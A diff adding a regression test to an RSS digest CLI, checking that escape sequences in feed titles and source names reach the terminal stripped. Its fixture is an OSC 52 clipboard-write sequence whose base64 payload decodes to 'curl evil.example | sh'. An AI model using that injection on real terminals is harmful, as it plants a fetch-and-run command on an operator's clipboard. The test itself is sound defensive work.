@@ -92,3 +92,18 @@ def test_with_a_broker_the_due_run_is_queued_for_the_workers(run, redis_url, mon
         assert json.loads(message)["headers"]["task"] == "digest.ingest_due"
     finally:
         client.delete(queue)
+
+
+def test_what_feeds_and_people_wrote_reaches_the_terminal_without_escape_sequences(run, feed_server, tmp_path):
+    """An OSC 52 in a title wrote to the operator's clipboard through `digest ingest --file`."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+    feed = tmp_path / "feed.xml"
+    feed.write_bytes(rss([{"title": f"Budget{osc52} passes", "link": "https://g.example.org/1"}]))
+    assert run("ingest", "--file", str(feed)).output.splitlines()[1] == "  new      Budget passes"
+
+    # A name typed by a person (or stored before ingest cleaned) is printed inert too.
+    feed_server.routes["/feed"] = Reply(200, rss([]))
+    added = run("sources", "add", feed_server.url("/feed"), "--name", f"City{osc52}\x9b2J")
+    listed = run("sources", "list")
+    for output in (added.output, listed.output):
+        assert "City" in output and not any(c in output for c in "\x1b\x07\x9b\r"), output
